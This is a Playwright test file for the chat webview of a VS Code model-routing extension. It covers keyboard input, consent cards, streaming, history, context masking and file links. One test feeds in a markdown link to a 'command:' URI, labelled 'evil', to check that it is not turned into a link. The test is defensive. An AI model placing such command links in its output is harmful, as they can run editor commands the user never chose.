import assert from 'node:assert/strict';
import { after, test } from 'node:test';
import { codeBlocks } from '../../src/core/common/codeBlocks.ts';
import { parsePageMessage } from '../../src/protocol/channel.ts';
import {
  ChatFromPage,
  type AnswerTurnView,
  type AppliedView,
  type ChatState,
  type SuggestionView,
  type UserTurnView,
} from '../../src/protocol/chat.ts';
import { HOSTILE, servePage, THEMES, type HostedPage } from './panelPages.ts';

const ANSWER: AnswerTurnView = {
  role: 'assistant',
  id: 'a1',
  text: 'Use a **lock**:\n\n```ts\nconst x: number = 1;\n```\n\n| a | b |\n|---|---|\n| 1 | 2 |\n\n- [x] done\n- see [docs](https://example.com)',
  reasoning: 'Let me think.',
  tier: 'frontier',
  route: {
    line: 'frontier instead of mid',
    brief: 'your choice',
    score: 'Complexity 3.0 of 5',
    words: 'You chose frontier; Auto had chosen mid: its complexity is 3 of 5',
    cost: 'about $0.031',
    others: [
      { tier: 'local', cost: 'free', model: 'ollama/qwen2.5-coder:7b' },
      { tier: 'mid', cost: 'about $0.0012', model: 'openrouter/deepseek-v4-flash' },
    ],
    remember: 'Adds a rule',
  },
  before: [],
  escalated: true,
  model: 'claude-opus-5.5',
  provider: 'openrouter',
  state: 'done',
  tried: [],
  words: '',
  next: 'none',
  canContinue: false,
  footer: {
    input: '3.2k in (2.1k cached, 66%)',
    output: '410 out',
    cost: '$0.031',
    costSource: 'provider',
    costDetail: 'The provider stated this cost.',
    time: '1.9 s to first token, 8.2 s',
    fallback: '',
    notes: [],
  },
};

const STATE_FOOTER = ANSWER.footer as NonNullable<AnswerTurnView['footer']>;

const STATE: ChatState = {
  thread: { id: 't1', title: 'Why does this deadlock?' },
  inView: false,
  turns: [
    {
      role: 'user',
      id: 'q1',
      text: 'Why does this deadlock?',
      chips: [{ id: 'c1', label: 'src/pool.ts:40-88', tokens: 1100, detail: 'in class Pool' }],
    },
    ANSWER,
  ],
  threads: [
    { id: 't1', title: 'Why does this deadlock?', updatedAt: Date.now(), pinned: true, cost: '$0.02' },
    { id: 't2', title: 'Older', updatedAt: Date.now() - 86_400_000, pinned: false, cost: '$0.02' },
  ],
  tiers: [
    { tier: 'auto', model: 'Rules choose', price: '', ready: true, state: 'ready', models: [] },
    {
      tier: 'local',
      model: 'qwen2.5-coder:1.5b · ollama',
      price: 'free, on this computer',
      ready: true,
      state: 'ready',
      models: [{ name: 'ollama/qwen2.5-coder:1.5b', price: 'free' }],
    },
    {
      tier: 'mid',
      model: 'deepseek-v4-flash · openrouter',
      price: '$0.0983 in · $0.1966 out per M tokens',
      ready: false,
      state: 'no key',
      models: [
        { name: 'openrouter/deepseek/deepseek-v4-flash', price: '$0.0983 in' },
        { name: 'openrouter/openai/gpt-6-mini', price: '$0.25 in' },
      ],
    },
    {
      tier: 'frontier',
      model: 'claude-opus-5.5 · openrouter',
      price: '$4 in · $20 out per M tokens',
      ready: true,
      untried: true,
      state: 'not used yet',
      models: [{ name: 'openrouter/anthropic/claude-opus-5.5', price: '$4 in' }],
    },
  ],
  tier: 'mid',
  model: null,
  chips: [{ id: 'c2', label: 'src/pool.ts', tokens: 2400, secrets: 2, hidden: 4 }],
  offers: [
    { id: 'o1', kind: 'selection', label: 'src/ring.ts:3-9', tokens: 80, secrets: 1, on: true, detail: 'It is sent.' },
    { id: 'o2', kind: 'file', label: 'src/deep/leaves.py', tokens: null, on: false, detail: 'Click to attach it.' },
  ],
  contextMeter: {
    share: '12%',
    used: 0.12,
    cost: '~$0.0021',
    level: 'ok',
    details: ['About 15k of 128k tokens for mid (deepseek).', '1.2k attached context'],
    warning: '',
  },
  busy: null,
  consent: null,
  notice: '',
  noticeNext: 'none',
};

const CONSENT: NonNullable<ChatState['consent']> = {
  brief: 'deepseek-v4-flash · likely $0.0021, at most $0.012 · with your question and this conversation',
  cost: ['deepseek-chat, about 1.2k tokens in', 'likely $0.0021, at most $0.012'],
  id: 'k1',
  tier: 'mid',
  places: [{ host: 'openrouter.ai', model: 'deepseek-v4-flash', price: '$0.0983 in', note: 'Not encrypted.' }],
  sends: ['your question and this conversation'],
};

const STEP_UP: ChatState['consent'] = {
  id: 'k2',
  tier: 'mid',
  places: [],
  brief: '',
  cost: [],
  sends: ['your question and this conversation'],
  stepUp: {
    model: 'sonnet-5',
    words:
      'openrouter/gone did not answer. openrouter/anthropic/sonnet-5 can, but may cost up to $0.31 instead of $0.02.',
  },
};

const failed: AnswerTurnView = {
  ...ANSWER,
  id: 'a2',
  text: '',
  footer: null,
  state: 'failed',
  words: 'openrouter.ai refused the key (401).',
  next: 'set-key',
};
const waiting: AnswerTurnView = {
  ...ANSWER,
  id: 'a3',
  text: '',
  reasoning: '',
  footer: null,
  state: 'waiting',
  words: '',
};

const server = await servePage('chat');
after(() => server.close());

async function open(state: ChatState = STATE, width = 400): Promise<HostedPage> {
  const hosted = await server.open({ width, height: 900 });
  await hosted.send({ kind: 'init', l10n: {} });
  await hosted.send({ kind: 'state', state });
  assert.deepEqual(await hosted.posted(), [{ kind: 'ready' }]);
  return hosted;
}

/** What was posted, as the host would read it; without the drafts, which are told whenever there is a pause. */
const posted = async (hosted: HostedPage): Promise<unknown[]> =>
  (await hosted.posted())
    .map((message) => parsePageMessage(ChatFromPage, message))
    .filter((message) => message?.kind !== 'draft');

test('Enter asks the chosen tier once, Shift+Enter makes a line, and nothing is asked while an answer is in progress', async () => {
  const hosted = await open();
  const field = hosted.page.getByRole('textbox', { name: 'Question' });
  await field.click();
  await hosted.page.keyboard.type('one');
  await hosted.page.keyboard.press('Shift+Enter');
  await hosted.page.keyboard.type('two');
  await hosted.page.keyboard.press('Enter');
  await hosted.page.keyboard.press('Enter');
  assert.deepEqual(await posted(hosted), [{ kind: 'ask', text: 'one\ntwo', tier: 'mid' }]);
  await hosted.send({ kind: 'state', state: { ...STATE, busy: 'a3', turns: [...STATE.turns, waiting] } });
  await hosted.page.keyboard.type('three');
  await hosted.page.keyboard.press('Enter');
  assert.deepEqual(await posted(hosted), []);
  await hosted.page.keyboard.press('Escape');
  assert.deepEqual(await posted(hosted), [{ kind: 'stop' }]);
});

test('a model that has to be set up first: what is missing, and a button for each step', async () => {
  const setup: AnswerTurnView['setup'] = [
    { words: 'mid: OpenRouter has no API key.', next: 'set-key', provider: 'openrouter' },
    { words: 'local: no model on this computer is set to answer questions.', next: 'choose-local', provider: '' },
    { words: '', next: 'get-started', provider: '' },
  ];
  const hosted = await open({ ...STATE, turns: [{ ...failed, words: 'Nothing was sent.', next: 'retry', setup }] });
  const card = hosted.page.getByRole('region', { name: 'Set up a model' });
  assert.deepEqual(
    await card.locator('li').allInnerTexts(),
    setup.slice(0, 2).map(({ words }) => words),
  );
  await card.getByRole('button', { name: 'Set API key for OpenRouter', exact: true }).click();
  await card.getByRole('button', { name: 'Choose a local model' }).click();
  await card.getByRole('button', { name: 'Get started' }).click();
  assert.deepEqual(await posted(hosted), [
    { kind: 'nextStep', turnId: 'a2', next: 'set-key', provider: 'openrouter' },
    { kind: 'nextStep', turnId: 'a2', next: 'choose-local' },
    { kind: 'nextStep', turnId: 'a2', next: 'get-started' },
  ]);
});

test('a failed answer has one button to ask again, whichever step it offers', async () => {
  for (const next of ['retry', 'start-ollama', 'settings'] as const) {
    const hosted = await open({ ...STATE, turns: [{ ...failed, words: 'It failed.', next }] });
    assert.equal(await hosted.page.getByRole('button', { name: 'Retry', exact: true }).count(), 1, next);
  }
});

test('an answer that a budget refused is asked of the cheaper tier with one click', async () => {
  const refused = { ...failed, words: 'Budget $0.30 a day for frontier: …', next: 'settings', useTier: 'mid' } as const;
  const hosted = await open({ ...STATE, turns: [refused] });
  await hosted.page.getByRole('button', { name: 'Use mid' }).click();
  assert.deepEqual(await posted(hosted), [{ kind: 'reroute', turnId: 'a2', tier: 'mid' }]);
});

test('while no local model answers questions, no button offers the local tier, and the empty chat says how to set one', async () => {
  const tiers = STATE.tiers.map((tier) => (tier.tier === 'local' ? { ...tier, answers: false } : tier));
  const hosted = await open({ ...STATE, tiers });
  await hosted.page.locator('.tier-button').click();
  assert.deepEqual(await hosted.page.locator('.tier-list .tier-name').allInnerTexts(), ['Auto', 'mid', 'frontier']);
  await hosted.page.keyboard.press('Escape');
  await hosted.page.getByRole('button', { name: 'Ask another tier' }).first().click();
  assert.equal(await hosted.page.getByRole('menuitem', { name: /^local/ }).count(), 0);
  await hosted.send({ kind: 'state', state: { ...STATE, tiers, turns: [] } });
  await hosted.page.getByRole('button', { name: 'Choose a local model' }).click();
  assert.deepEqual(await posted(hosted), [{ kind: 'nextStep', next: 'choose-local' }]);
});

test('the tools of an answer name it, never its text', async () => {
  const hosted = await open();
  await hosted.page.locator('.code-block').hover();
  await hosted.page.getByRole('button', { name: 'Copy code' }).click();
  await hosted.page.getByRole('button', { name: 'Insert at cursor' }).click();
  await hosted.page.getByRole('button', { name: 'More for this code' }).click();
  await hosted.page.getByRole('menuitem', { name: 'Open as a new file' }).click();
  await hosted.page.getByRole('button', { name: 'Retry' }).click();
  await hosted.page.getByText('docs').click();
  assert.deepEqual(await posted(hosted), [
    { kind: 'useCode', use: 'copy', turnId: 'a1', block: 0 },
    { kind: 'useCode', use: 'insert', turnId: 'a1', block: 0 },
    { kind: 'useCode', use: 'newFile', turnId: 'a1', block: 0 },
    { kind: 'retry', turnId: 'a1' },
    { kind: 'openLink', href: 'https://example.com/' },
  ]);
});

test('tokens are added to the answer in progress, and an unclosed fence is code already', async () => {
  const hosted = await open({ ...STATE, busy: 'a3', turns: [...STATE.turns, waiting] });
  await hosted.send({
    kind: 'delta',
    turnId: 'a3',
    text: 'Here:\n\n```py\nde',
    reasoning: '',
    textAt: 0,
    reasoningAt: 0,
  });
  await hosted.send({ kind: 'delta', turnId: 'a3', text: 'def f():', reasoning: '', textAt: 13, reasoningAt: 0 });
  await hosted.page.locator('article').last().locator('pre', { hasText: 'def f():' }).waitFor();
});

const suggestion = (label: string, over: Partial<SuggestionView> = {}): SuggestionView => ({
  id: `s-${label.replace(/\W/g, '')}`,
  icon: 'file',
  label,
  detail: 'src',
  insert: `@${label} `,
  more: false,
  unavailable: '',
  ...over,
});

test('context is mentioned by keyboard: the list narrows down, what is chosen is named by its id', async () => {
  const hosted = await open();
  const field = hosted.page.getByRole('textbox', { name: 'Question' });
  const asked = async (): Promise<ChatFromPage & { kind: 'suggest' }> => {
    await hosted.page.waitForTimeout(100);
    return (await posted(hosted)).at(-1) as ChatFromPage & { kind: 'suggest' };
  };
  await field.click();
  await hosted.page.keyboard.type('why does @fi');
  const first = await asked();
  assert.deepEqual({ ...first, seq: 0 }, { kind: 'suggest', seq: 0, mention: '', query: 'fi' });
  // An answer to what was asked before this mention comes too late.
  await hosted.send({ kind: 'suggestions', seq: 0, items: [suggestion('late')] });
  assert.equal(await hosted.page.locator('.suggestions').count(), 0);
  const kind = suggestion('@file', { insert: '@file:', more: true });
  await hosted.send({
    kind: 'suggestions',
    seq: first.seq,
    items: [suggestion('@selection', { unavailable: 'Nothing is selected in the editor' }), kind],
  });
  assert.deepEqual(await hosted.axe(), []);
  await hosted.page.keyboard.press('Enter');
  assert.equal(await field.inputValue(), 'why does @fi', 'what is unavailable is not chosen, and nothing is sent');
  await hosted.page.keyboard.press('ArrowDown');
  await hosted.page.keyboard.press('Tab');
  assert.equal(await field.inputValue(), 'why does @file:');
  const second = await asked();
  assert.deepEqual([second.mention, second.query], ['file', '']);
  await hosted.send({ kind: 'suggestions', seq: second.seq, items: [suggestion('src/a.ts'), suggestion('src/b.ts')] });
  await hosted.page.keyboard.press('ArrowUp');
  await hosted.page.keyboard.press('Enter');
  assert.deepEqual(await posted(hosted), [{ kind: 'choose', suggestionId: 's-srcbts' }]);
  assert.equal(await field.inputValue(), 'why does @src/b.ts ');
  await hosted.page.keyboard.type('hang?');
  await hosted.page.keyboard.press('Enter');
  assert.deepEqual(await posted(hosted), [{ kind: 'ask', text: 'why does @src/b.ts hang?', tier: 'mid' }]);
});

test('Escape closes the list and leaves the text; the button types the @ for those who click', async () => {
  const hosted = await open();
  const field = hosted.page.getByRole('textbox', { name: 'Question' });
  await field.click();
  await hosted.page.keyboard.type('see');
  await hosted.page.getByRole('button', { name: 'Add context (@)' }).click();
  assert.equal(await field.inputValue(), 'see @');
  await hosted.page.waitForTimeout(100);
  const asked = (await posted(hosted)).at(-1) as { seq: number };
  await hosted.send({ kind: 'suggestions', seq: asked.seq, items: [suggestion('src/a.ts')] });
  await hosted.page.locator('.suggestions').waitFor();
  await hosted.page.keyboard.press('Escape');
  assert.equal(await hosted.page.locator('.suggestions').count(), 0);
  await hosted.page.keyboard.type('a');
  await hosted.page.waitForTimeout(100);
  assert.deepEqual(await posted(hosted), [], 'closed stays closed while it is the same mention');
  assert.equal(await field.inputValue(), 'see @a');
});

const COMPARED: ChatState = {
  ...STATE,
  turns: [
    STATE.turns[0]!,
    { ...ANSWER, id: 'a1', tier: 'mid', escalated: false, chosen: false },
    {
      ...ANSWER,
      id: 'a2',
      text: 'Another answer.',
      chosen: true,
      footer: { ...STATE_FOOTER, fallback: 'a/b answered.', notes: ['b answered, though c was asked.'] },
    },
  ],
};

const HIDDEN: AnswerTurnView = {
  ...ANSWER,
  ...{ tier: 'mid', model: '', provider: '', footer: null, escalated: false, route: null, text: 'One.' },
};
const BLIND: ChatState = {
  ...STATE,
  turns: [
    STATE.turns[0]!,
    { ...HIDDEN, id: 'a1', blind: { name: 'Answer A', words: '', canVote: true } },
    { ...HIDDEN, id: 'a2', text: 'Other.', blind: { name: 'Answer B', words: '', canVote: true } },
  ],
};
const VOTED: ChatState = {
  ...COMPARED,
  turns: COMPARED.turns.map((turn, i) =>
    typeof turn === 'object' && turn.role === 'assistant'
      ? {
          ...turn,
          blind: { name: i === 1 ? 'Answer A' : 'Answer B', words: 'Your vote: B is better.', canVote: false },
        }
      : turn,
  ),
};

test('two blind answers are voted on by key; the focus then is on what was said', async () => {
  const hosted = await open(BLIND, 260);
  const bar = hosted.page.getByRole('region', { name: 'Which answer is better?' });
  await bar.getByRole('button', { name: 'A is better' }).focus();
  for (const vote of ['a', 'b', 'same', 'neither', 'none'] as const) {
    await hosted.page.keyboard.press('Enter');
    assert.deepEqual(await posted(hosted), [{ kind: 'vote', turnId: 'a1', vote }]);
    await hosted.page.keyboard.press('Tab');
  }
  for (const name of ['Retry', 'Ask another tier', 'Escalate this', 'Keep as a test'])
    assert.equal(await hosted.page.getByRole('button', { name }).count(), 0, `${name} depends on the model`);
  await hosted.send({ kind: 'state', state: VOTED });
  await hosted.page.locator('.vote-told:focus', { hasText: 'B is better' }).waitFor();
  await hosted.page.getByRole('heading', { name: /Answer B/ }).waitFor();
  assert.equal(await bar.count(), 0);
});

test('turns by keyboard: edit, versions, another tier, escalate, continue, choose one of two', async () => {
  const versions = { at: 2, of: 3, previous: 'q0', next: 'q2' };
  const cut = { ...ANSWER, tier: 'mid', canContinue: true, words: 'The answer was cut at the length limit.' } as const;
  const hosted = await open({ ...STATE, turns: [{ ...(STATE.turns[0] as UserTurnView), versions }, cut] });
  const press = async (name: string): Promise<void> => {
    await hosted.page.getByRole('button', { name, exact: true }).focus();
    await hosted.page.keyboard.press('Enter');
  };
  await press('Previous version');
  await press('Next version');
  await press('Continue');
  await press('Escalate this');
  await press('Ask another tier');
  await hosted.page.locator('.menu:focus').waitFor();
  assert.deepEqual(await hosted.axe(), []);
  await hosted.page.keyboard.press('ArrowDown');
  await hosted.page.keyboard.press('Enter');
  assert.equal(await hosted.page.locator('.menu').count(), 0);
  assert.deepEqual(await posted(hosted), [
    { kind: 'useTurn', turnId: 'q0' },
    { kind: 'useTurn', turnId: 'q2' },
    { kind: 'continueAnswer', turnId: 'a1' },
    { kind: 'escalateTurn', turnId: 'a1' },
    { kind: 'retry', turnId: 'a1', tier: 'frontier' },
  ]);
  await press('Edit and ask again');
  await hosted.page.getByRole('textbox', { name: 'Edit the question' }).waitFor();
  assert.deepEqual(await hosted.axe(), []);
  await hosted.page.keyboard.type(' Really?');
  await hosted.page.keyboard.press('Enter');
  assert.deepEqual(await posted(hosted), [
    { kind: 'edit', turnId: 'q1', text: 'Why does this deadlock? Really?', tier: 'mid' },
  ]);
  await hosted.send({ kind: 'state', state: COMPARED });
  await press('Continue from this answer');
  assert.deepEqual(await posted(hosted), [{ kind: 'useTurn', turnId: 'a1' }]);
});

test("by keyboard an answer continues in VS Code's agents, and what they cost is below it", async () => {
  const agentCost = 'Gearshift Build: $0.02 for 3 requests';
  const hosted = await open({ ...STATE, turns: [STATE.turns[0] as UserTurnView, { ...ANSWER, agentCost }] });
  for (const downs of [0, 1]) {
    await hosted.page.getByRole('button', { name: "Continue in VS Code's agents", exact: true }).focus();
    await hosted.page.keyboard.press('Enter');
    await hosted.page.locator('.menu:focus').waitFor();
    if (downs === 0) assert.deepEqual(await hosted.axe(), []);
    for (let n = 0; n < downs; n++) await hosted.page.keyboard.press('ArrowDown');
    await hosted.page.keyboard.press('Enter');
  }
  assert.deepEqual(await posted(hosted), [
    { kind: 'toAgent', turnId: 'a1', use: 'build' },
    { kind: 'toAgent', turnId: 'a1', use: 'escalate' },
  ]);
  await hosted.page.getByText(agentCost).waitFor();
});

test('while an answer is in progress its neighbors cannot be asked again', async () => {
  const hosted = await open({ ...STATE, busy: 'a3', turns: [...STATE.turns, waiting] });
  for (const name of ['Retry', 'Ask another tier', 'Edit and ask again'])
    await hosted.page.getByRole('button', { name, exact: true }).first().click({ force: true });
  assert.deepEqual(await posted(hosted), []);
});

test('the up arrow goes through what was asked, the down arrow back, and what was written is never lost', async () => {
  const asked = ['one', 'two', 'three'].map((text, i): UserTurnView => ({
    role: 'user',
    id: `q${i}`,
    text,
    chips: [],
  }));
  const hosted = await open({ ...STATE, turns: asked });
  const field = hosted.page.getByRole('textbox', { name: 'Question' });
  await field.click();
  const after = async (...keys: string[]): Promise<string> => {
    for (const key of keys) await hosted.page.keyboard.press(key);
    return field.inputValue();
  };
  assert.equal(await after('ArrowUp'), 'three');
  assert.equal(await after('ArrowUp', 'ArrowUp', 'ArrowUp'), 'one');
  assert.equal(await after('ArrowDown'), 'two');
  assert.equal(await after('ArrowDown', 'ArrowDown'), '');
  await hosted.page.keyboard.type('mine');
  assert.equal(await after('ArrowUp'), 'mine');
});

test('I51 a megabyte that is pasted becomes context at once; a picture and dropped files too', async () => {
  const hosted = await open();
  const field = hosted.page.getByRole('textbox', { name: 'Question' });
  await field.click();
  const took = await hosted.page.evaluate(async () => {
    const paste = (data: DataTransfer): void => {
      const target = document.querySelector('.composer textarea');
      target?.dispatchEvent(new ClipboardEvent('paste', { clipboardData: data, bubbles: true, cancelable: true }));
    };
    const text = new DataTransfer();
    text.setData('text/plain', 'const a = 1;\n'.repeat(80_000));
    // The best of three: other programs may take the processor away meanwhile.
    let ms = Infinity;
    for (let round = 0; round < 3; round++) {
      const start = performance.now();
      paste(text);
      await new Promise((done) => requestAnimationFrame(() => requestAnimationFrame(() => done(undefined))));
      ms = Math.min(ms, performance.now() - start);
    }
    const picture = new DataTransfer();
    picture.items.add(new File([new Uint8Array([137, 80, 78, 71])], 'shot.png', { type: 'image/png' }));
    paste(picture);
    const files = new DataTransfer();
    files.setData('text/uri-list', 'file:///w/a.ts\r\n# no\r\nfile:///w/src');
    document.body.dispatchEvent(new DragEvent('drop', { dataTransfer: files, bubbles: true, cancelable: true }));
    const outside = new DataTransfer();
    outside.items.add(new File(['let x;'], 'x.ts', { type: 'text/plain' }));
    document.body.dispatchEvent(new DragEvent('drop', { dataTransfer: outside, bubbles: true, cancelable: true }));
    await new Promise((done) => setTimeout(done, 100));
    return ms;
  });
  assert.ok(took < 300, `${took} ms`);
  assert.equal(await field.inputValue(), '');
  const got = (await posted(hosted)) as ChatFromPage[];
  assert.deepEqual(
    got.map((message) =>
      message.kind === 'attachText' ? [message.kind, message.name, message.text.length] : Object.values(message),
    ),
    [
      ...Array.from({ length: 3 }, () => ['attachText', '', 1_040_000]),
      ['attachFiles', ['file:///w/a.ts', 'file:///w/src']],
      ['attachImage', 'shot.png', 'image/png', 'iVBORw=='],
      ['attachText', 'x.ts', 6],
    ],
  );
});

test('context says what is masked in it and what is hidden, and hidden characters are taken out', async () => {
  const hosted = await open();
  const chip = hosted.page.locator('.composer .chip');
  await chip.getByText('2 secrets are masked before they leave this machine').waitFor();
  await chip.getByRole('button', { name: 'Remove 4 hidden characters that a model would read' }).click();
  assert.deepEqual(await posted(hosted), [{ kind: 'stripHidden', chipId: 'c2' }]);
});

test('the meter says what the next question takes and costs, tells pauses in typing, and a fold opens', async () => {
  const hosted = await open({
    ...STATE,
    turns: [...STATE.turns, { role: 'summary', id: 'f1', words: 'A summary', text: '- the notes', detail: 'by mid' }],
  });
  const meter = hosted.page.getByRole('button', { name: /^Next question/ });
  await meter.click();
  await hosted.page.getByText('1.2k attached context').waitFor();
  await hosted.page.keyboard.press('Escape');
  await hosted.page.getByRole('textbox', { name: 'Question' }).click();
  await hosted.page.keyboard.type('hello');
  await hosted.page.waitForTimeout(400);
  assert.deepEqual((await hosted.posted()).at(-1), { kind: 'draft', text: 'hello' });
  await hosted.send({
    kind: 'contextMeter',
    contextMeter: { ...STATE.contextMeter, level: 'near', share: '96%', warning: 'It will be summarized.' },
  });
  await hosted.page.locator('.composer-problem', { hasText: 'It will be summarized.' }).waitFor();
  await hosted.page.getByText('A summary').click();
  await hosted.page.getByText('- the notes').waitFor();
});

test('history by keyboard: search, rename, pin, export, delete with undo', async () => {
  const hosted = await open();
  await hosted.page.getByRole('button', { name: 'Chat history' }).click();
  await hosted.page.locator('.history [data-row]:focus').waitFor();
  await hosted.page.keyboard.type('dead');
  await hosted.page.waitForTimeout(250);
  const asked = (await posted(hosted)).at(-1) as { seq: number };
  assert.deepEqual({ ...asked, seq: 0 }, { kind: 'searchThreads', seq: 0, query: 'dead' });
  const hit = { threadId: 't2', title: 'Older', before: 'the <b>', match: 'dead', after: 'lock of' };
  await hosted.send({ kind: 'hits', seq: asked.seq, hits: [hit] });
  await hosted.page.locator('.history mark', { hasText: 'dead' }).waitFor();
  assert.deepEqual(await hosted.axe(), []);
  await hosted.page.keyboard.press('ArrowDown');
  await hosted.page.keyboard.press('Enter');
  assert.deepEqual(await posted(hosted), [{ kind: 'openThread', threadId: 't2' }]);

  await hosted.page.getByRole('button', { name: 'Chat history' }).click();
  await hosted.page.locator('.history [data-row]:focus').waitFor();
  await hosted.page.keyboard.press('F2');
  await hosted.page.getByRole('textbox', { name: 'New name' }).fill('Locks');
  assert.deepEqual(await hosted.axe(), []);
  await hosted.page.keyboard.press('Enter');
  await hosted.page.getByRole('button', { name: 'Unpin Why does this deadlock?' }).click();
  await hosted.page.getByRole('button', { name: 'Export Older' }).click();
  await hosted.page.locator('.menu:focus').waitFor();
  await hosted.page.keyboard.press('ArrowDown');
  await hosted.page.keyboard.press('Enter');
  await hosted.page.locator('.history [data-row]').nth(1).focus();
  await hosted.page.keyboard.press('Delete');
  await hosted.page.getByRole('button', { name: 'Undo' }).click();
  assert.deepEqual(await posted(hosted), [
    { kind: 'renameThread', threadId: 't1', title: 'Locks' },
    { kind: 'pinThread', threadId: 't1', pinned: false },
    { kind: 'exportThread', threadId: 't2', format: 'json' },
    { kind: 'deleteThread', threadId: 't2' },
    { kind: 'undoDelete', threadId: 't2' },
  ]);
});

test('files that are there become links to file and line; what is not there stays as it was written', async () => {
  const text = 'See `src/pool.ts:40`, `src/gone.ts`, [the lid](src/lid.ts#L3) and [evil](command:x).';
  const hosted = await open({ ...STATE, turns: [{ ...ANSWER, text }] });
  assert.equal(await hosted.page.locator('.file-link').count(), 0);
  await hosted.send({ kind: 'files', paths: ['src/pool.ts', 'src/lid.ts'] });
  assert.deepEqual(await hosted.page.locator('.file-link').allInnerTexts(), ['src/pool.ts:40', 'the lid']);
  assert.deepEqual(await hosted.axe(), []);
  await hosted.page.locator('.file-link').first().click();
  await hosted.page.locator('.file-link').last().focus();
  await hosted.page.keyboard.press('Enter');
  assert.deepEqual(await posted(hosted), [
    { kind: 'openFile', turnId: 'a1', path: 'src/pool.ts', line: 40 },
    { kind: 'openFile', turnId: 'a1', path: 'src/lid.ts', line: 3 },
  ]);
});

test('selected text is quoted into the composer', async () => {
  const hosted = await open();
  await hosted.page.locator('.markdown p').first().selectText();
  await hosted.page.getByRole('button', { name: 'Quote the selection' }).click();
  assert.deepEqual(await posted(hosted), []);
  const field = hosted.page.getByRole('textbox', { name: 'Question' });
  assert.equal(await field.inputValue(), '> Use a lock:\n\n');
  assert.equal(await hosted.page.locator('textarea:focus').count(), 1);
});

test('turns that the page already has are sent as names; they are not drawn again, and an overlapping piece adds nothing twice', async () => {
  const hosted = await open({ ...STATE, busy: 'a3', turns: [...STATE.turns, waiting] });
  await hosted.page.evaluate(() => document.querySelector('.answer')?.setAttribute('data-mark', '1'));
  await hosted.send({ kind: 'delta', turnId: 'a3', text: 'Hello ', reasoning: '', textAt: 0, reasoningAt: 0 });
  await hosted.send({
    kind: 'state',
    state: { ...STATE, busy: 'a3', turns: ['q1', 'a1', { ...waiting, state: 'streaming', text: 'Hello wor' }] },
  });
  await hosted.send({ kind: 'delta', turnId: 'a3', text: 'world', reasoning: '', textAt: 6, reasoningAt: 0 });
  assert.equal(await hosted.page.locator('.answer').count(), 2);
  assert.equal(await hosted.page.locator('.answer[data-mark]').count(), 1);
  assert.equal(await hosted.page.locator('.answer').last().locator('.markdown').innerText(), 'Hello world');
});

test('F49 however many tokens come, the page draws at most 30 times a second, the first at once, and loses none', async () => {
  const hosted = await open({ ...STATE, busy: 'a3', turns: [...STATE.turns, waiting] });
  const { draws, after, seconds, firstMs, sent } = await hosted.page.evaluate(async () => {
    const post = (text: string, textAt: number): void =>
      window.postMessage({ kind: 'delta', turnId: 'a3', text, reasoning: '', textAt, reasoningAt: 0 }, '*');
    const frames = new Set<number>();
    let frame = 0;
    let first = 0;
    let isOver = false;
    const next = (at: number): void => {
      frame = at;
      if (!isOver) requestAnimationFrame(next);
    };
    requestAnimationFrame(next);
    const start = performance.now();
    const observer = new MutationObserver(() => {
      if (frames.size === 0) first = performance.now() - start;
      frames.add(frame);
    });
    const answers = document.querySelectorAll('.answer');
    observer.observe(answers[answers.length - 1] as Element, { childList: true, characterData: true, subtree: true });
    let at = 0;
    for (; performance.now() - start < 2_000;) {
      post(at % 240 === 236 ? 'to\n\n' : 'tok ', at);
      at += 4;
      await new Promise((done) => setTimeout(done));
    }
    const span = (performance.now() - start) / 1_000;
    const during = frames.size;
    for (let n = 0; n < 5_000; n++) {
      post('tok ', at);
      at += 4;
    }
    const flooded = frames.size;
    await new Promise((done) => setTimeout(done, 1_000));
    const after = frames.size - flooded;
    observer.disconnect();
    isOver = true;
    return { draws: during, after, seconds: span, firstMs: first, sent: at };
  });
  assert.ok(draws <= 30 * seconds + 1, `${draws} draws in ${seconds.toFixed(2)} s`);
  assert.ok(after <= 31, `${after} draws in the second after 5,000 tokens at once`);
  assert.ok(draws >= 4, `${draws} draws in ${seconds.toFixed(2)} s`);
  assert.ok(firstMs < 250, `the first after ${firstMs.toFixed(0)} ms`);
  const shown = await hosted.page.locator('.answer').last().locator('.markdown').textContent();
  assert.equal(shown?.match(/to/g)?.length, sent / 4);
});

test('a question that the host does not take comes back into the composer with the reason', async () => {
  const hosted = await open();
  const field = hosted.page.getByRole('textbox', { name: 'Question' });
  await field.click();
  await hosted.page.keyboard.type('/commit');
  await hosted.page.keyboard.press('Enter');
  assert.equal(await field.inputValue(), '');
  await hosted.send({ kind: 'refused', words: 'There are no changes.' });
  assert.equal(await field.inputValue(), '/commit');
  await hosted.page.getByText('There are no changes.').first().waitFor();
  await hosted.page.keyboard.press('Enter');
  assert.equal((await posted(hosted)).filter((message) => (message as ChatFromPage).kind === 'ask').length, 2);

  // The reason goes with its chat, and stays while the same chat changes.
  await hosted.send({ kind: 'refused', words: 'There are no changes.' });
  const reason = hosted.page.locator('.composer-problem', { hasText: 'There are no changes.' });
  await reason.waitFor();
  await hosted.send({ kind: 'state', state: { ...STATE, busy: null } });
  await reason.waitFor();
  await hosted.send({ kind: 'state', state: { ...STATE, turns: [], thread: { id: 'another', title: '' } } });
  await reason.waitFor({ state: 'hidden' });
});

test('nothing moves where the user wants less motion', async () => {
  const hosted = await open({ ...STATE, busy: 'a3', turns: [...STATE.turns, waiting] });
  const moving = (): Promise<number> =>
    hosted.page.evaluate(() => document.getAnimations().filter(({ playState }) => playState === 'running').length);
  await hosted.page.locator('article.answer[aria-busy=true]').waitFor();
  assert.ok((await moving()) > 0, 'an answer that is waited for moves something');
  // As VS Code marks its webviews by `workbench.reduceMotion`.
  await hosted.page.evaluate(() => document.body.classList.add('vscode-reduce-motion'));
  await hosted.page.waitForFunction(() => !document.getAnimations().some(({ playState }) => playState === 'running'));
});

test('consent takes the focus, and its answer is posted with its id', async () => {
  const hosted = await open({ ...STATE, consent: CONSENT });
  const card = hosted.page.getByRole('group', { name: 'Send to openrouter.ai?' });
  await card.and(hosted.page.locator(':focus')).waitFor();
  await hosted.page.getByRole('button', { name: 'Allow' }).click();
  assert.deepEqual(await posted(hosted), [{ kind: 'consent', consentId: 'k1', allow: true }]);
});

test('consent is one line with what must not be overlooked; the rest unfolds by key, and several addresses are never folded', async () => {
  const hosted = await open({ ...STATE, consent: CONSENT });
  const card = hosted.page.locator('.consent');
  await card.getByText('deepseek-v4-flash · likely $0.0021, at most $0.012').waitFor();
  assert.ok(await card.getByText('Not encrypted.').first().isVisible());
  const price = card.getByText('$0.0983 in');
  assert.equal(await price.isVisible(), false);
  await hosted.page.keyboard.press('Tab');
  await hosted.page.keyboard.press('Enter');
  await price.waitFor();
  assert.ok(await card.getByText('likely $0.0021, at most $0.012', { exact: true }).isVisible());
